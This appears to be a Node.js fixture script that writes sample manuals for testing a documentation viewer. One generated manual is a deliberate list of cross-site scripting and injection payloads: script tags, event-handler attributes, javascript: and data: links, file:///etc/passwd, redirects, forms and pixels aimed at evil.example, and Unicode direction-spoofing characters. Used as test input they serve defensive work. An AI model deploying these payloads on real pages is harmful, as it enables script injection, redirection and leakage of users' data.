// Writes the manuals that the tests read: `node docs.mjs FOLDER`.

import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

const folder = process.argv[2];

function write(path, text) {
  const whole = join(folder, path);
  mkdirSync(dirname(whole), { recursive: true });
  writeFileSync(whole, text);
}

const guide = (version, limit) => `# Gateway administration guide

Release ${version}.

<!-- page 4 -->

## Trunks

A *trunk* carries the calls of a whole site between the gateway and its carrier. The gateway
accepts **${limit} trunks**; a trunk above that number is refused with the cause \`no-resource\`.

| parameter | meaning | default | range | unit |
|---|---|---|---|---|
| \`trunk.max-calls\` | calls that a trunk carries at once | 120 | 1–4000 | calls |
| \`trunk.keepalive-interval-between-options-requests\` | how often a peer is asked | 30 | 5–600 | seconds |

<!-- page 5 -->

## Certificates

Install the certificate before the trunk is switched on:

\`\`\`
gateway# certificate import file:///flash/certificates/site-a-carrier-interconnect.pem name carrier passphrase-file /flash/secret
gateway# trunk carrier tls require
\`\`\`

1. Check the fingerprint with the carrier.
2. Switch the trunk on.

> A certificate that has expired closes its trunk at midnight.

<!-- page 6 -->

## Call admission

Calls above the bandwidth of a trunk are rejected.
See [the release notes](https://acme.example/notes).
`;

// Every section is a passage, so that the manual comes in several parts.
const reference = Array.from({ length: 240 }, (_, n) => `## Command ${n}

The command \`set-${n}\` changes register ${n} of the gateway.

- It takes a value from 0 to ${n * 10}.
- It needs a restart${n % 7 === 0 ? ", and the word of the day is zeppelin" : ""}.

`).join("");

// More headings than a reader wants to see at once.
const handbook = Array.from({ length: 20 }, (_, chapter) => `# Chapter ${chapter}

` + Array.from({ length: 15 }, (_, topic) => `## Topic ${chapter}.${topic}

How an operator handles subject ${chapter * 15 + topic}.

`).join("")).join("");

const notes = `SWITCH NOTES

    port 1      uplink
    port 2      trunk to the gateway

The file <config> of this switch is read once. A path that does not end:
/flash/${"very-long-folder-name/".repeat(9)}switch.conf
`;

// Each line is an attack on whoever shows it: on the page itself, or by asking another site for
// something. What succeeds sets `pwned`, opens a dialog or sends a request.
const hostile = `# Hostile \u202E<script>window.pwned = 1</script> manual

## "><img src=x onerror="window.pwned = 2"> heading

The word quicksand stands here so that the passage is found. <script>window.pwned = 3</script>

<script src="https://evil.example/x.js"></script>

<svg onload="window.pwned = 4"><style>@import "https://evil.example/x.css";</style></svg>

<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>

<body onload="window.pwned = 6"><input autofocus onfocus="window.pwned = 7"></body>

<details open ontoggle="alert(8)"><summary>quicksand</summary></details>

<form action="https://evil.example/"><input name="q"><button>Search</button></form>

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<base href="https://evil.example/">

<link rel="stylesheet" href="https://evil.example/x.css">

<div style="position: fixed; inset: 0; background: url(https://evil.example/y.png)">over</div>

[a link](javascript:window.pwned=9) [another](  JaVaScRiPt:alert(10))
[data](data:text/html,<script>alert(11)</script>) [file](file:///etc/passwd)
<javascript:alert(12)> [quotes](https://acme.example/"onmouseover="window.pwned=13)

![pixel](https://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg/onload=alert(14)>)

Reversed: \u202Egnp.exe\u202C, reversed by its number: &#x202E;gnp.exe, zero width: pass\u200Bword, mark: \u200Fabc\u2066def\u2069, bell: \u0007, escape: \u001B[31m.

\`\`\`html
<script>window.pwned = 15</script>
\`\`\`

| cell |
|---|
| <script>window.pwned = 16</script><img src=x onerror=alert(17)> |

## </title></h1></main><script>window.pwned = 18</script>

Quicksand again. ]]> --> </style></script><script>window.pwned = 19</script>
`;

write("mcdewey.toml", 'levels = ["vendor", "product", "version"]\n');
write("acme/mcdewey.toml", 'url = "https://acme.example/guide#page={page}"\n');
write("acme/gateway/1.0/mcdewey.toml", 'superseded_by = "2.0"\ndate = "2019-03-01"\n');
write("acme/gateway/1.0/guide.md", guide("1.0", 16));
write("acme/gateway/2.0/guide.md", guide("2.0", 64));
write("acme/gateway/2.0/reference.md", `# Command reference\n\n${reference}`);
write("acme/gateway/2.0/handbook.md", handbook);
write("bolt/switch/7.1/notes.txt", notes);
write("bolt/switch/7.1/hostile.md", hostile);
// The same attacks from both sides of a comparison, under headings and in words that changed.
const twice = hostile.replaceAll("quicksand", "marsh").replaceAll("Quicksand", "Marsh");
write("bolt/bridge/1/attacks.md", twice);
write("bolt/bridge/2/attacks.md", twice.replaceAll("pwned = ", "pwned = 10 + ").replace("heading", "title"));
